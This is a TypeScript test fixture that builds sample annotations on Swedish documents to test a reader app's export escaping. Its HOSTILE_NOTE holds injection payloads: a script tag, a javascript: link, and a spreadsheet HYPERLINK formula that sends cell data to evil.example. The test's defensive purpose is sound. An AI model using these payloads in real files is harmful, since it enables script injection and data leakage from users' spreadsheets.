// Sample notes for the export tests: real passages of the shipped documents, created
// through the real annotation store in a temporary data folder, with Swedish text and
// hostile notes (quotes, commas, newlines, <script>, =HYPERLINK(...), Markdown syntax).
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { Annotation, HighlightColour } from '../../../../src-main/shared/annotation';
import { QUOTE_CONTEXT_LENGTH } from '../../../../src-main/shared/annotation';
import { openServices, type Services } from '../../../../src-main/services';
import type { ReaderDocument } from '../../../../src-main/shared/documents/model';
import type { PdfRenderer } from '../../../../src-main/services/export/pdf';
import { exportsFolderHost } from '../../../../src-main/services/export/service';
import { renderPdfWithChromium } from '../../../../src-main/services/export/pdf-chromium';

export const ROOT = resolve(import.meta.dirname, '../../../..');
export const DOC_A = '000_85e98cc4eb8dedfb';
export const DOC_B = '003_e730e55ba1c2e8b7';

export const HOSTILE_NOTE = [
  'Citat "med citattecken", komman; semikolon och\tflik',
  '<script>alert("xss")</script> & <b>fet</b>',
  '=HYPERLINK("http://evil.example/?q="&A1;"klicka")',
  '# Inte en rubrik',
  '- inte en punkt',
  '1. inte numrerad',
  '> inte ett citat',
  '[länk](javascript:alert(1)) **fet** _kursiv_ `kod` ```',
  '    indragen rad som inte är kod',
  'slut med snedstreck \\',
].join('\n');

export interface SampleSpec {
  readonly documentId: string;
  readonly exact: string;
  readonly note: string;
  readonly tags: string[];
  readonly colour: HighlightColour | null;
}

export const SAMPLES: readonly SampleSpec[] = [
  {
    documentId: DOC_B,
    exact: 'fyra huvudområden; utbildning, arbetsmarknad, hälsa och boende',
    note: 'Jämför med regeringens prioriteringar.\nSärskilt hälsa – följ upp före årsskiftet.',
    tags: ['uppföljning', 'hälsa'],
    colour: 'yellow',
  },
  {
    documentId: DOC_A,
    exact: 'integrationspolitik primärt är ett nationellt ansvar',
    note: HOSTILE_NOTE,
    tags: ['=SUM(A1:A9)', 'tagg, med komma', '<i>'],
    colour: 'pink',
  },
  {
    documentId: DOC_A,
    exact: 'Svensk representant i gruppen är Göran Lindqvist',
    note: '',
    tags: [],
    colour: 'green',
  },
  {
    documentId: DOC_B,
    exact: 'Asyloch migrationsfonden (AMF)',
    note: '+46 8 405 10 00 – ring Åsa om ändringen',
    tags: ['EU-fonder'],
    colour: null,
  },
];

/** Creates an annotation on the first occurrence of `exact`, as the reader would. */
export async function annotate(services: Services, spec: SampleSpec): Promise<Annotation> {
  const doc = await services.library.get(spec.documentId);
  if (!doc.ok) throw new Error(doc.error.message);
  const source = doc.value.text;
  const start = source.indexOf(spec.exact);
  if (start < 0) throw new Error(`"${spec.exact}" is not in ${spec.documentId}`);
  const end = start + spec.exact.length;
  const created = await services.annotations.create({
    documentId: spec.documentId,
    paragraph: paragraphOf(doc.value, start),
    quote: {
      type: 'TextQuoteSelector',
      exact: spec.exact,
      prefix: source.slice(Math.max(0, start - QUOTE_CONTEXT_LENGTH), start),
      suffix: source.slice(end, end + QUOTE_CONTEXT_LENGTH),
    },
    position: { type: 'TextPositionSelector', start, end },
    colour: spec.colour,
    note: spec.note,
    tags: spec.tags,
  });
  if (!created.ok) throw new Error(created.error.message);
  return created.value;
}

export function paragraphOf(doc: ReaderDocument, offset: number): number {
  const block = doc.blocks.find((b) => b.number !== null && offset >= b.start && offset < b.end);
  if (!block || block.number === null) throw new Error(`offset ${offset} is not in a paragraph`);
  return block.number;
}

export interface Sandbox {
  readonly dataDir: string;
  readonly services: Services;
  cleanup(): Promise<void>;
}

export async function openSandbox(renderPdf: PdfRenderer = renderPdfWithChromium): Promise<Sandbox> {
  const dataDir = await mkdtemp(join(tmpdir(), 'lasaren-export-'));
  const services = await openServices({
    resourcesDir: join(ROOT, 'resources'),
    dataDir,
    openExternal: async () => undefined,
    exportHost: exportsFolderHost(dataDir, renderPdf),
  });
  const cleanup = async () => {
    services.close();
    await rm(dataDir, { recursive: true, force: true });
  };
  return { dataDir, services, cleanup };
}

export async function sandboxWithSamples(): Promise<Sandbox & { notes: Annotation[] }> {
  const sandbox = await openSandbox();
  const notes: Annotation[] = [];
  for (const spec of SAMPLES) notes.push(await annotate(sandbox.services, spec));
  return { ...sandbox, notes };
}
